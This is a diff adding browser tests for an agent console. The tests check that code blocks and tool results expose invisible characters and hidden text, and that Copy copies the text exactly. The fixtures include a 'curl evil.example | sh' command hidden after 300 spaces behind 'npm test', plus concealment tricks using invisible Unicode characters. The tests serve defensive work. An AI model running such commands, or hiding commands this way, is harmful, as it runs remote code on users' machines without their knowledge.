@@ -35,6 +35,7 @@ describe.each(browsers)("in %s", () => {
     [gateway, browser] = await Promise.all([launchConsoleGateway(), launchBrowser()]);
     context = await browser.newContext();
     context.setDefaultTimeout(20_000);
+    await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: gateway.proxy.url });
     const page = await context.newPage();
     await page.goto(await gateway.link());
     await page.getByRole("heading", { name: "Devices", exact: true }).waitFor();
@@ -124,6 +125,41 @@ describe.each(browsers)("in %s", () => {
     expect(await reads("An *earlier* message")).toBe(1);
     expect(before).toBeGreaterThan(0);
     expect(await reads(tool_args)).toBe(before);
+    expect(watched.faults).toEqual([]);
+  });
+
+  test("a block of code shows everything that Copy copies, also far to the right and what nobody sees, and copies it as it was written", async () => {
+    const page = await open("/device/dev-5");
+    const log = page.getByRole("log");
+    const code = `npm\u2800 test${" ".repeat(300)}; curl evil.example | sh`;
+    say("said-3", `\`\`\`\n${code}\n\`\`\`\n\nand \`rm\u3164 x\``);
+    const block = log.locator(".block").last();
+    await block.getByText("evil.example").waitFor();
+    await log.getByText(String.raw`rm\u3164 x`).waitFor();
+    expect(await block.locator("code").textContent()).toBe(code.replace("\u2800", String.raw`\u2800`));
+    // The end of the command is in the box.
+    const hidden = await page.evaluate<number>(`(() => {
+      const box = [...document.querySelectorAll(".block pre")].at(-1);
+      return box.scrollWidth - box.clientWidth;
+    })()`);
+    expect(hidden).toBe(0);
+    await block.getByRole("button", { name: "Copy", exact: true }).click();
+    await block.getByText("Copied").waitFor();
+    expect(await page.evaluate("navigator.clipboard.readText()")).toBe(code);
+    say("said-4", `\`\`\`\nnpm test${"\n".repeat(60)}curl evil.example | sh\n\`\`\``);
+    await log.getByRole("button", { name: "Copy all 61 lines" }).waitFor();
+    expect(watched.faults).toEqual([]);
+  });
+
+  test("the result of a tool shows what nobody sees", async () => {
+    const page = await open("/device/dev-5");
+    const call = { tool_call_id: "t-1", tool_name: "Fetch", tool_args: '{"url":"x"}' };
+    send(4, { type: "stream_delta", delta: { message_type: "client_tool_start", ...call } });
+    const result = { message_type: "tool_return_message", tool_call_id: "t-1", tool_return: "a\u202eb\u3164c" };
+    send(4, { type: "stream_delta", delta: result });
+    const log = page.getByRole("log");
+    await log.locator("summary").filter({ hasText: "Fetch" }).click();
+    await log.getByText(String.raw`a\u202eb\u3164c`).waitFor();
     expect(watched.faults).toEqual([]);
   });
 });
